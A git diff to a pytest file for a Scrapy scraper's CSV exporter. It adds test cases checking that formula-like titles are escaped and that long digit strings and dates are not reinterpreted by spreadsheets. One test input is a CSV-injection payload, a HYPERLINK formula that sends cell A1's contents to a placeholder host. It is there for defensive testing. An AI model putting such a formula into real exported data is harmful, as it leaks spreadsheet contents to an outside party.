@@ -15,6 +15,7 @@ from scrapy.exporters import CsvItemExporter
 from scrapy.utils.misc import build_from_crawler, load_object
 from scrapy.utils.test import get_crawler
 
+from tests.each_case import each_case
 from zakerscraper.item_exporters import PlainCsvItemExporter
 from zakerscraper.items import Article, SearchResult
 from zakerscraper.settings import FEED_EXPORTERS
@@ -48,7 +49,15 @@ def rows(*items: Any, **options: Any) -> list[dict[str, str]]:
 
 @pytest.mark.parametrize(
     "title",
-    ['=HYPERLINK("http://a.example/?x="&A1,"点这里")', "+86 号段开放", "-5℃ 的早晨", "@所有人", "\t=1+1", "\r=1"],
+    [
+        '=HYPERLINK("http://a.example/?x="&A1,"点这里")',
+        "+86 号段开放",
+        "-5℃ 的早晨",
+        "@所有人",
+        "\t=1+1",
+        "\r=1",
+        "＝1+1",
+    ],
 )
 def test_no_title_is_a_formula(title: str) -> None:
     (row,) = rows(Article(id="a", url="u", title=title, tags=[title, "b"]))
@@ -56,7 +65,40 @@ def test_no_title_is_a_formula(title: str) -> None:
     assert row["tags"] == f"'{title},b"
 
 
-@pytest.mark.parametrize("cell", ["", "河边的磨坊", "1+1", "a@b", "'=1", 5, -5, None])
+@each_case(
+    "cell",
+    [
+        "612345678901234567890123",
+        "61234567890123456789e012",
+        "5e0000000000000000000012",
+        "007",
+        "1-2",
+        "9/11",
+        "2026-05-18",
+    ],
+)
+def test_no_text_becomes_another_number_or_a_day(cell: str) -> None:
+    assert as_cell(cell) == f"'{cell}"
+
+
+@each_case(
+    "cell",
+    [
+        "",
+        "河边的磨坊",
+        "1+1",
+        "a@b",
+        "'=1",
+        "2026",
+        "3.14",
+        "6a0aa9f08e9f09000000002d",
+        "5e1234567890123456789012",
+        5,
+        -5,
+        "2026-05-18T11:00:00+08:00",
+        None,
+    ],
+)
 def test_other_cells_stay_as_they_are(cell: object) -> None:
     assert as_cell(cell) == cell
 
